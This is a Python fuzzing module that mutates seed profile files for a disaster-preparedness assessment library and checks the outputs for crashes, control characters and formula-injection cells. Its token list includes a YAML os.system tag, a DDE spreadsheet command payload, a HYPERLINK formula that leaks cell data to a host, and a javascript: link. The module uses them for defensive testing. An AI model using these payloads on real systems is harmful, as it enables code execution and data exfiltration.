"""The fuzzing campaign: seeds, mutations, and the count of what happened."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import traceback
import warnings
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path

import disaster_protocol as dp
from disaster_protocol._i18n import LANGS
from disaster_protocol.errors import CONTROL_CHARACTERS, printable

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "examples" / "profiles"
_NUMBER = re.compile(r"-[\d.]+([eE][+-]?\d+)?")

TOKENS = [
    ": ", "- ", "{", "}", "[", "]", "'", '"', "&a ", "*a", "<<: *a", "!!python/object:os.system",
    "!!timestamp x", "!!int ''", "!!bool x", "? ", "---\n", "...\n", "\x00", "\x1b[31m", "\r",
    "\t", "\ufeff", "\ud7ff", "9" * 5000, "1e400", "-1", "3.0", "nan", "n/a", "unknown", "yes",
    "2026-02-30", "0001-01-01", "10/03/2026", ",,,,", ";", "\n" * 3, "a" * 200, "é", "\u202e",
    # issue 27: numbers of any size, formula and link text, bidi and C1, merge keys, depth
    "0x" + "f" * 3600, "-0x" + "f" * 3600, "0o" + "7" * 5000, "0b" + "1" * 15000,
    '=HYPERLINK("http://x/?d="&A1,"Click")', "=1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0",
    "[x](javascript:alert(1))", "![i](http://e.example/t.png)", "\u2066", "\u200f", "\x85",
    "\x9b31m", "<<: {a: 1}\n", "[" * 70 + "]" * 70, "{\"a\": " * 70 + "1" + "}" * 70,
    "[" + ", ".join(["1"] * 5000) + "]", ",".join(f"x{i}" for i in range(3000)),
]


def _said_everywhere(exc: dp.DisasterProtocolError) -> None:
    """Say a refusal in every language, as ``--lang`` would: each line holds no control
    character, and each problem's translation keeps the file, position and code."""
    for lang in LANGS:
        said = exc.lines_in(lang).split("\n")
        raw = CONTROL_CHARACTERS.search("".join(said))
        if raw:
            raise AssertionError(f"raw {raw.group()!r} in a {lang} problem")
        for problem, line in zip(exc.problems, said, strict=True):
            place = printable(problem.file)
            if not line.endswith(f" [{problem.code}]") or not line.startswith(place):
                raise AssertionError(f"{lang} line {line!r} lost its place or code")


@dataclass
class Outcome:
    """How many inputs were accepted, refused with our error, or crashed (and how)."""

    accepted: int = 0
    rejected: int = 0
    unlocated: Counter[str] = field(default_factory=Counter)  # refusals without a line, by code
    crashes: list[tuple[str, str, str]] = field(default_factory=list)  # kind, input, traceback

    @property
    def total(self) -> int:
        return self.accepted + self.rejected + len(self.crashes)

    def record(self, attempt: Callable[[], object], text: str,
               refused: type[dp.DisasterProtocolError]) -> None:
        """Run ``attempt`` on the input ``text`` and count what it did. Input warnings are
        allowed, and their own text must hold no control character."""
        try:
            with warnings.catch_warnings(record=True) as caught:
                warnings.simplefilter("always", dp.InputWarning)
                attempt()
            for item in caught:
                shown = str(item.message)
                raw = CONTROL_CHARACTERS.search(shown)
                if not isinstance(item.message, dp.InputWarning) or raw:
                    raise AssertionError(f"unexpected warning {item.category.__name__}: "
                                         f"{shown!r}")
            self.accepted += 1
        except refused as exc:
            try:
                _said_everywhere(exc)
            except Exception as inner:  # a refusal that cannot be said is a crash too
                self._crash(inner, text)
                return
            self.rejected += 1
            self.unlocated.update(p.code for p in exc.problems if not p.line)
        except Exception as exc:  # a crash is what the campaign looks for
            self._crash(exc, text)

    def _crash(self, exc: Exception, text: str) -> None:
        where = traceback.extract_tb(exc.__traceback__)[-1]
        kind = f"{type(exc).__name__} at {Path(where.filename).name}:{where.lineno}"
        self.crashes.append((kind, text, traceback.format_exc()))

    def summary(self) -> str:
        kinds = Counter(kind for kind, _, _ in self.crashes)
        return (f"{self.total} inputs: {self.accepted} accepted, {self.rejected} refused with a "
                f"located error, {len(self.crashes)} other; problems without a line: "
                f"{dict(self.unlocated.most_common())}" +
                ("".join(f"\n  {n} x {kind}" for kind, n in kinds.most_common())))


def _seeds() -> list[tuple[str, str, str | None]]:
    """(format, text, sidecar text) of each known-good profile."""
    caja = (EXAMPLES / "caja_intermedia.yaml").read_text(encoding="utf-8")
    data = dp.load_profile(EXAMPLES / "caja_intermedia.yaml").model_dump(mode="json")
    csv_text = (EXAMPLES / "mutual_inicial.csv").read_text(encoding="utf-8")
    sidecar = (EXAMPLES / "mutual_inicial.meta.yaml").read_text(encoding="utf-8")
    small = ("schema_version: 1\ninstitution: {id: x, name: X, country: MX}\n"
             "assessed_on: 2026-06-30\nroles: {RMU: Riesgos}\nactions:\n  GOV-01: 3\n"
             "  GOV-02: {level: 4, evidence: [a.pdf], last_exercised: 2026-01-01}\n"
             "waivers:\n- {action: GOV-02, reason: r, approved_by: b, expires: 2027-01-01}\n")
    return [("yaml", caja, None), ("yaml", small, None), ("json", json.dumps(data), None),
            ("csv", csv_text, sidecar), ("csv", csv_text.replace(",", ";"), sidecar)]


def mutate(text: str, rng: random.Random) -> str:
    """``text`` changed one to four times."""
    for _ in range(rng.randint(1, 4)):
        if not text:
            return rng.choice(TOKENS)
        i = rng.randrange(len(text))
        j = min(len(text), i + rng.randint(1, 40))
        action = rng.randrange(6)
        if action == 0:
            text = text[:i] + rng.choice(TOKENS) + text[i:]
        elif action == 1:
            text = text[:i] + text[j:]
        elif action == 2:
            text = text[:i] + text[i:j] * rng.randint(2, 5) + text[j:]
        elif action == 3:
            text = text[:i] + chr(rng.randrange(0x20, 0x250)) + text[i + 1:]
        elif action == 4:
            lines = text.split("\n")
            a, b = rng.randrange(len(lines)), rng.randrange(len(lines))
            lines[a], lines[b] = lines[b], lines[a]
            text = "\n".join(lines)
        else:
            text = text[:i]
    return text


def _exercise(protocol: dp.Protocol, fmt: str, text: str, sidecar: str | None) -> None:
    profile = dp.loads_profile(text, protocol, source="fuzz", format=fmt,  # type: ignore[arg-type]
                               sidecar=sidecar)
    result = dp.assess(protocol, profile, strict=True)
    outputs = [result.to_json(), result.to_csv()]
    for lang in LANGS:  # every language the package has, not only es and en
        outputs += [result.to_markdown(lang), result.to_html(lang)]
    for text in outputs:  # issue 27: no raw control or bidi character in any output
        raw = CONTROL_CHARACTERS.search(text)
        if raw:
            raise AssertionError(f"raw {raw.group()!r} in an output")
    for row in csv.reader(io.StringIO(outputs[1])):  # and no CSV cell starts a formula
        for value in row:
            if value.startswith(("=", "+", "@", "\t")) or (
                    value.startswith("-") and not _NUMBER.fullmatch(value)):
                raise AssertionError(f"CSV cell {value!r} starts a formula")


def run(inputs: int, seed: int, *, protocol: dp.Protocol | None = None) -> Outcome:
    """Mutate the seeds ``inputs`` times and count what each input did."""
    chosen = protocol or dp.load_protocol()
    rng = random.Random(seed)
    seeds = _seeds()
    outcome = Outcome()
    for _ in range(inputs):
        fmt, text, sidecar = rng.choice(seeds)
        if sidecar is not None and rng.random() < 0.3:
            sidecar = mutate(sidecar, rng)
        else:
            text = mutate(text, rng)
        outcome.record(partial(_exercise, chosen, fmt, text, sidecar), text, dp.ProfileError)
    return outcome


def run_protocols(inputs: int, seed: int) -> Outcome:
    """Mutate the smallest valid protocol ``inputs`` times: loaded, or refused with our error."""
    text = (ROOT / "tests" / "data" / "minimal.yaml").read_text(encoding="utf-8")
    rng = random.Random(seed)
    outcome = Outcome()
    for _ in range(inputs):
        mutated = mutate(text, rng)
        outcome.record(partial(_load_protocol, mutated), mutated, dp.ProtocolError)
    return outcome


def _load_protocol(text: str) -> None:
    protocol = dp.loads_protocol(text, source="fuzz")
    _ = protocol.graph, protocol.index


def run_side_files(inputs: int, seed: int, where: Path) -> Outcome:
    """Mutate the bundled crosswalk and migration files, and stored profiles for ``migrate``:
    each loaded (and used), or refused with the library's own error. Files go to ``where``."""
    from disaster_protocol.crosswalk import by_framework, load_crosswalk
    from disaster_protocol.migration import load_migration, migrate_text

    protocol = dp.load_protocol()
    assessment = dp.assess(protocol, dp.load_profile(
        ROOT / "examples" / "profiles" / "caja_intermedia.yaml", protocol))
    crosswalks = sorted((ROOT / "protocols" / "crosswalks").glob("*.yaml"))
    migrations = sorted((ROOT / "protocols" / "migrations").glob("*.yaml"))
    profiles = [text for fmt, text, _ in _seeds() if fmt == "yaml"]
    rng = random.Random(seed)
    outcome = Outcome()
    target = where / "fuzz.yaml"

    def crosswalk(text: str) -> None:
        target.write_text(text, encoding="utf-8", errors="surrogatepass")
        by_framework(assessment, load_crosswalk(target, protocol))

    def migration(text: str) -> None:
        target.write_text(text, encoding="utf-8", errors="surrogatepass")
        load_migration(target, protocol)

    def migrate(text: str) -> None:
        migrate_text(text, to=protocol.version, protocol=protocol)

    for _ in range(inputs):
        kind = rng.randrange(3)
        if kind == 0:
            text, attempt = mutate(rng.choice(crosswalks).read_text("utf-8"), rng), crosswalk
        elif kind == 1:
            text, attempt = mutate(rng.choice(migrations).read_text("utf-8"), rng), migration
        else:
            text, attempt = mutate(rng.choice(profiles), rng), migrate
        outcome.record(partial(attempt, text), text, dp.DisasterProtocolError)
    return outcome


WIDE_SEED = (
    "institution_id;Nombre;País;Fecha evaluación;date_format;role_rmu;gov-01;GOV-01 Evidencia;"
    "GOV-02;gov-02_justificacion;PREP-07;prep-07_last_exercised;state;comentarios\n"
    "caja-norte;Caja del Norte;MX;15/10/2026;DD/MM/YYYY;Riesgos;3,0;acta.pdf;N/A;Sin consejo;"
    "4;02/09/2026;validated;ok\n"
    "instituto-sur;Instituto del Sur;CL;2026-10-20;;;2;;no aplica;La ley;unknown;;draft;\n")
"""A spreadsheet as people write it (issue 24): the seed of the wide-table campaign."""


def run_wide_tables(inputs: int, seed: int, where: Path) -> Outcome:
    """Mutate a wide table (a spreadsheet with the quirks people write, and the example
    round): each read, its profiles scored and written as a portfolio CSV, or refused with
    the library's own error. A row that cannot be read is part of a result, not a crash."""
    protocol = dp.load_protocol()
    seeds = [WIDE_SEED, (ROOT / "examples" / "field" / "round_2026.csv").read_text("utf-8")]
    rng = random.Random(seed)
    outcome = Outcome()
    target = where / "fuzz.csv"

    def wide(text: str) -> None:
        target.write_text(text, encoding="utf-8", errors="surrogatepass")
        round_ = dp.read_submissions(target, protocol, dates="day-first")
        for row in round_:
            if (row.profile is None) != bool(row.problems):
                raise AssertionError(f"row {row.line}: a profile and problems, or neither")
        portfolio = dp.assess_many(protocol, list(round_.profiles), strict=True)
        for cells in csv.reader(io.StringIO(portfolio.to_csv())):
            for value in cells:
                if CONTROL_CHARACTERS.search(value) or value.startswith(("=", "+", "@")):
                    raise AssertionError(f"unsafe portfolio cell {value!r}")

    for _ in range(inputs):
        text = mutate(rng.choice(seeds), rng)
        outcome.record(partial(wide, text), text, dp.ProfileError)
    return outcome
